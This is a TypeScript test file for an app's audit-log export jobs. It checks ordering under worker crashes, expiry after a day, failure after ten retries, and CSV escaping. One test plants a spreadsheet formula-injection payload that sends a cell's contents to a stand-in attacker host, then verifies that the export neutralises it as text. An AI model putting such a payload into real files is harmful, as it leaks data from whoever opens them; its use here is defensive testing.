import { beforeAll, expect, test } from "vitest";
import { GET as FILE } from "@/app/api/app/[team]/audit/exports/[id]/file/route";
import { POST as BEGIN, GET as LIST } from "@/app/api/app/[team]/audit/exports/route";
import type { ExportView } from "@/lib/contract/audit/audit-views";
import { poolOf } from "@/lib/data/pool";
import { inTeam } from "@/lib/data/transaction";
import { makeExportPiece } from "@/lib/data/unscoped/work-exports";
import { systemClock } from "@/lib/domain/clock/clock";
import { listExports } from "@/lib/services/audit/export-audit";
import { recordAct } from "@/lib/services/audit/record-act";
import { sealDueEvents } from "@/lib/services/audit/seal-due-events";
import { workExports } from "@/lib/services/audit/work-exports";
import { decideOne, ownerOf } from "../support/deciding";
import { arrangeMember, callAs, type Member } from "../support/session-calls";

const LENGTH = 1_800;
const FORMULA = '=HYPERLINK("https://evil.example?"&A1)';

let member: Member;

beforeAll(async () => {
  member = await arrangeMember();
  const scope = ownerOf(member);
  await decideOne(member, new Date(), '{"account":12345678901234567890}');
  await inTeam(scope, async (tx) => {
    for (let n = 0; n < LENGTH; n++) {
      const target = { type: "key", id: `key_${n}`, name: n === 7 ? FORMULA : `Key ${n}` } as const;
      await recordAct(tx, scope, { type: "key.revoked", target, before: { n, note: "a,b" } }, new Date());
    }
  });
  while ((await sealDueEvents()) > 0);
});

const begin = async (format: "csv" | "jsonl"): Promise<ExportView> => {
  const answer = await callAs(member, BEGIN, "POST", { path: "audit/exports", body: { format, mode: "live" } });
  expect(answer.status).toBe(202);
  return (await answer.json()) as ExportView;
};
const find = async (id: string) => {
  const answer = await callAs(member, LIST, "GET", { path: "audit/exports" });
  return ((await answer.json()) as { data: ExportView[] }).data.find((job) => job.id === id);
};
const file = (id: string) => callAs(member, FILE, "GET", { params: { id } });
const finish = async () => {
  while ((await workExports(systemClock)) > 0);
};
const sealedCount = async () => {
  const { rows } = await poolOf("ha_system").query(
    "SELECT max(seq)::int AS last FROM events WHERE team_id = $1 AND mode = 'live'",
    [member.team_id],
  );
  return rows[0].last as number;
};

// An export that lost or repeated an event would be worse than none: somebody else relies on it.
test("an export holds every event once, in order, whatever died on the way, and says how far it is", async () => {
  const last = await sealedCount();
  const job = await begin("jsonl");
  expect(job).toMatchObject({ status: "pending", progress: 0, rows: 0, created_by: "Ana Torres" });
  expect((await begin("jsonl")).id).toBe(job.id); // asked twice, made once
  expect((await file(job.id)).status).toBe(404); // not before it is whole

  let calls = 0;
  const make = () => {
    calls += 1;
    return `{"piece":${calls}}\n`;
  };
  // A worker that dies before its commit: nothing of its piece is left, and the next one makes it.
  const client = await poolOf("ha_system").connect();
  await client.query("BEGIN");
  await client.query("SELECT id FROM export_jobs WHERE id = $1 FOR UPDATE", [job.id]);
  expect(await makeExportPiece(make, new Date())).toBeNull(); // held by that one
  await client.query("INSERT INTO export_pieces (job_id, number, team_id, text) VALUES ($1, 0, $2, 'half')", [
    job.id,
    member.team_id,
  ]);
  client.release(new Error("died"));
  while ((await find(job.id))?.progress === 0) await workExports(systemClock);
  await finish();

  expect(await find(job.id)).toMatchObject({ status: "done", progress: 1, rows: last });
  const answer = await file(job.id);
  expect(answer.headers.get("content-disposition")).toMatch(/filename="audit-.+-live-\d{4}-\d\d-\d\d\.jsonl"/);
  const lines = (await answer.text()).trimEnd().split("\n");
  expect(lines.map((line) => JSON.parse(line).seq)).toEqual(Array.from({ length: last }, (_, n) => n + 1));
  // Enough to check every digest: the body stands in the very bytes.
  expect(lines.some((line) => JSON.parse(line).body?.includes('"account":12345678901234567890'))).toBe(true);
});

// Whoever opens the file in a spreadsheet must not run what a key's name says.
test("a CSV export is read by spreadsheets as text, and its making is told in the trail", async () => {
  const job = await begin("csv");
  await finish();
  const text = Buffer.from(await (await file(job.id)).arrayBuffer()).toString("utf8");
  expect(text.startsWith("\uFEFFseq,at,mode,action,")).toBe(true);
  expect(text).toContain(`"'${FORMULA.replaceAll('"', '""').replace("=", "=")}"`);
  expect(text).toContain('"{""n"":3,""note"":""a,b""}"');
  const { rows } = await poolOf("ha_system").query(
    "SELECT body FROM events WHERE team_id = $1 AND type = 'audit.exported' ORDER BY position DESC LIMIT 1",
    [member.team_id],
  );
  expect(JSON.parse(rows[0].body)).toMatchObject({ after: { mode: "live", format: "csv" } });
});

// A file that nobody fetched must not lie there for good.
test("after a day an export is neither listed nor fetched; a piece that fails ten times ends it", async () => {
  const job = await begin("csv");
  await finish();
  await poolOf("ha_system").query("UPDATE export_jobs SET finished_at = now() - interval '25 h' WHERE id = $1", [
    job.id,
  ]);
  expect(await find(job.id)).toBeUndefined();
  expect((await file(job.id)).status).toBe(404);

  const doomed = await begin("csv");
  for (let n = 0; n < 10; n++) {
    const made = await makeExportPiece(() => {
      throw new Error("disk full");
    }, new Date());
    expect(made).toMatchObject({ id: doomed.id });
  }
  expect(await find(doomed.id)).toMatchObject({ status: "failed" });
  expect(await listExports(ownerOf(member), new Date())).not.toEqual([]);
});
